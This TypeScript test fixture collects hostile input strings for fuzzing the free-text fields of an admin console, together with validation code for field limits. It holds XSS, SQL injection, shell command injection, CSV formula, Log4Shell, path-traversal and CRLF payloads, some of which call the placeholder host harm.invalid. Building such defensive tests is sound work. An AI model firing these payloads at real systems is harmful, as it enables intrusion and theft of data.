/*
 * Texts that have broken other consoles. What may run calls `harm()`, what may be loaded lies on harm.invalid, what
 * may become an element is a `harm-mark`: hostile-watch.ts hears all three.
 */

const markup = [
  '<script>harm()</script>',
  '<ScRiPt >harm()</sCrIpT >',
  '<script src=//harm.invalid/a.js></script>',
  '<script>/*',
  '*/harm()</script>',
  '<img src=x onerror=harm()>',
  '<img src="x" onerror="harm()"/>',
  '<img src=//harm.invalid/a.png>',
  '<img/src=`x`onerror=harm()>',
  '<svg onload=harm()>',
  '<svg/onload=harm()//',
  '<svg><script>harm()</script></svg>',
  '<svg><animate onbegin=harm() attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=harm() src=1>">',
  '<iframe srcdoc="<script>parent.harm()</script>">',
  '<iframe src=javascript:parent.harm()>',
  '<iframe src=//harm.invalid>',
  '<object data=//harm.invalid/a.swf>',
  '<embed src=//harm.invalid/a.swf>',
  '<details open ontoggle=harm()>',
  '<video><source onerror=harm()>',
  '<audio src=x onerror=harm()>',
  '<body onload=harm()>',
  '<input autofocus onfocus=harm()>',
  '<marquee onstart=harm()>',
  '<a href=javascript:harm()>press</a>',
  '<a href=//harm.invalid>press</a>',
  '<form action=//harm.invalid><button>Sign in',
  '<base href=//harm.invalid>',
  '<meta http-equiv=refresh content="0;url=//harm.invalid">',
  '<link rel=stylesheet href=//harm.invalid/a.css>',
  '<style>*{background:url(//harm.invalid/a)}</style>',
  '<style>@import "//harm.invalid/a.css"',
  '<div style="position:fixed;inset:0;background:red">',
  '<template><harm-mark></harm-mark></template>',
  '<noscript><p title="</noscript><img src=x onerror=harm()>">',
  '<!--><img src=x onerror=harm()>-->',
  '<![CDATA[<img src=x onerror=harm()>]]>',
  '</textarea><script>harm()</script>',
  '</title><script>harm()</script>',
  '</style><script>harm()</script>',
  '</script><script>harm()</script>',
  '<xmp><harm-mark></xmp><harm-mark>',
  '<harm-mark></harm-mark>',
  '<harm-mark>',
  '<b>bold</b>',
  '<h1>Another heading',
  '<plaintext>',
  '<0',
  '&lt;script&gt;harm()&lt;/script&gt;',
  '&#60;img src=x onerror=harm()&#62;',
  '&amp;lt;harm-mark&amp;gt;',
  '%3Cscript%3Eharm()%3C%2Fscript%3E',
  '\\u003cscript\\u003eharm()\\u003c/script\\u003e',
  '+ADw-script+AD4-harm()+ADw-/script+AD4-',
  '＜script＞harm()＜/script＞',
]

const attributes = ['"', "'", '`', '">', "'>", '" ', '\\"', '&quot;'].flatMap((quote) => [
  `${quote} onmouseover=harm() x=${quote}`,
  `${quote} autofocus onfocus=harm() x=${quote}`,
  `${quote}><harm-mark x=${quote}`,
  `${quote}; harm(); var x=${quote}`,
])

const addresses = [
  'javascript:harm()',
  'JaVaScRiPt:harm()',
  ' javascript:harm()',
  'javascript&colon;harm()',
  'javascript:harm()//',
  'java script:harm()',
  'javascript://%0aharm()',
  'vbscript:harm()',
  'data:text/html,<script>harm()</script>',
  'data:image/svg+xml,<svg onload=harm()>',
  'blob:https://harm.invalid/a',
  'file:///etc/passwd',
  '//harm.invalid',
  'https://harm.invalid',
  '\\\\harm.invalid\\share',
  'https:harm.invalid',
  'mailto:a@harm.invalid?bcc=b@harm.invalid',
  '../../../etc/passwd',
  '..\\..\\windows',
  '%2e%2e%2f%2e%2e%2f',
  '.',
  '..',
  '?page=2&q=x#top',
  '#',
  '%',
  '%00',
  '%zz',
  '%E0%A4%A',
  'a+b&c=d',
  'new',
  'edit',
  'none',
]

const formulas = ['=', '+', '-', '@', ' =', '＝'].flatMap((sign) => [
  `${sign}1+1`,
  `${sign}HYPERLINK("https://harm.invalid","x")`,
  `${sign}cmd|' /C calc'!A0`,
  `${sign}IMPORTXML("https://harm.invalid","//a")`,
])

const invisible = [
  ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'],
  ['\u200e', '\u200f', '\u061c', '\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u034f'],
  ['\u180e', '\u115f', '\u3164', '\u2800', '\u00a0', '\u3000', '\u2028', '\u{e0001}', '\u{e0061}'],
]
  .flat()
  .flatMap((sign, index) => [`pay${sign}gpj.exe ${index}`, sign])

const emoji = [
  '👨‍👩‍👧‍👦',
  '👩🏿‍🚀',
  '🏳️‍🌈',
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '🇩🇪🇫🇷',
  '🇩',
  '1️⃣#️⃣',
  '☺︎☺️',
  '🦊'.repeat(100),
  '👨‍👩‍👧‍👦'.repeat(14),
  '🏿',
  '\u{1f1e6}'.repeat(50),
  '\u{10fffd}',
  '\ufffd',
  '\ue000',
  '𝕊𝕒𝕝𝕖𝕤',
  'ﷺ'.repeat(30),
  '﷽'.repeat(40),
  '𒐫'.repeat(40),
  '꧅'.repeat(40),
  '각'.repeat(20),
  'क्ष्म्य'.repeat(10),
  'ༀ༁༂'.repeat(20),
  'שלום עולם',
  'مرحبا بالعالم'.repeat(5),
  'ﬁne ﬀ ß ẞ İ ı ſ',
  'Ω Ω Å Å',
]

const stacks = ['a', 'Z', '0', 'ก', ' x'].flatMap((base) =>
  [1, 10, 49, 90].map((height) => base + '\u0301\u0316'.repeat(height).slice(0, height)),
)

const lengths = [99, 100, 101, 127, 128, 129, 255, 256, 10_000].flatMap((length) => [
  'W'.repeat(length),
  '漢'.repeat(length),
  'ab '.repeat(length).slice(0, length - 1) + 'c',
])

const templates = [
  '{{7*7}}',
  '{{constructor.constructor("harm()")()}}',
  '${7*7}',
  '${harm()}',
  '#{7*7}',
  '<%= harm() %>',
  '{% raw %}',
  '{{{x}}}',
  '${jndi:ldap://harm.invalid/a}',
  '$(touch harm)',
  '`touch harm`',
  "'; touch harm; '",
  '"; touch harm; "',
  "'\\''",
  '$POSTROOM_KEY',
  '!!',
  '| touch harm',
  '&& touch harm',
  '%s%n%x',
  '%(name)s',
  '{0}',
  '{name}',
  '\\',
  '\\n',
  '\\u0041',
  '$&',
  '$1',
  '[[x]]',
  '*bold* _x_ [a](javascript:harm())',
]

const sql = [
  "' or 1=1 --",
  '" or ""="',
  "'; drop table department; --",
  "x' union select key_hash from api_key --",
  "\\'; select 1; --",
  '%',
  '_',
  '50%_\\',
  "E'\\x00'",
  '$$;select pg_sleep(9);$$',
  '*',
  '1; commit',
  "O'Brien",
  '(a|b)*c$',
  '^$',
].map((text, index) => (text === '%' ? `%${index}` : text))

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'then',
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '0',
  '-0',
  '1e309',
  '[object Object]',
  '{"a":1}',
  '[]',
  '""',
  'key',
  'CON',
  'index.html',
]

const control = [
  '\0',
  'a\0b',
  'a\r\nSet-Cookie: harm=1',
  'a\tb',
  'a\nb',
  '\u001b[31mred',
  'a\u007fb',
  'a\u0085b',
  'a\u0008b',
  '\ufffe',
  '\u{1ffff}',
  '',
  '   ',
]

/** The texts by what they try. */
const hostileKinds = {
  markup,
  attributes,
  addresses,
  formulas,
  invisible,
  emoji,
  stacks,
  lengths,
  templates,
  sql,
  names,
  control,
}

export const hostileStrings: readonly string[] = [...new Set(Object.values(hostileKinds).flat())]

/** A few of each kind, for what takes a visit for each. */
export const hostileFew = (count: number): string[] =>
  Object.values(hostileKinds).flatMap((kind) =>
    kind.filter((_, index) => index % Math.ceil(kind.length / count) === 0),
  )

// oxlint-disable-next-line no-control-regex -- the contract's own patterns.
const anyControl = /[\u0000-\u001f\u007f-\u009f]/
// oxlint-disable-next-line no-control-regex -- the contract's own patterns.
const exceptLines = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/

/** The fields that take free text, as the contract has them. */
const fields = {
  // oxlint-disable-next-line no-control-regex -- the contract's own pattern.
  department_name: { most: 100, refused: /[\u0000-\u001f\u007f-\u009f/]/, isName: true },
  description: { most: 255, refused: exceptLines, isName: false },
  welcome_text: { most: 1000, refused: exceptLines, isName: false },
  display_name: { most: 128, refused: anyControl, isName: true },
  external_id: { most: 255, refused: anyControl, isName: false },
  status_reason: { most: 255, refused: anyControl, isName: false },
  note: { most: 255, refused: anyControl, isName: false },
  key_name: { most: 100, refused: anyControl, isName: true },
}

/** The contract takes at most 30 combining marks in a row. */
export const hasTooManyMarks = (text: string): boolean => /\p{M}{31}/u.test(text)

// Of no use in a name: soft hyphens, zero-width spaces, byte order marks, and what changes the direction of the text behind it.
const useless = /[\u00ad\u180e\u200b\u202a-\u202e\u2060-\u2064\u2066-\u206f\ufeff]/gu
// With the joiners and marks of direction that some scripts need inside a word.
const unseenEnds =
  /^[\s\u00ad\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]+|[\s\u00ad\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]+$/gu
const visible = /(?!\p{Default_Ignorable_Code_Point})[^\s\u2800]/u

const trimUnseen = (text: string) => (visible.test(text) ? text.replace(unseenEnds, '') : '')

/** What a field keeps of a text: null for nothing, undefined when it refuses. */
export const storedValue = (field: keyof typeof fields, text: string): string | null | undefined => {
  const { most, refused, isName } = fields[field]
  const asName = () =>
    anyControl.test(text)
      ? text
      : trimUnseen(text.replace(useless, '').normalize('NFC')).replace(/\s+/gu, ' ')
  const value = isName ? asName() : trimUnseen(text.normalize('NFC'))
  if (refused.test(value) || Array.from(value).length > most || hasTooManyMarks(text)) return undefined
  if (value === '') return isName ? undefined : null
  return value
}
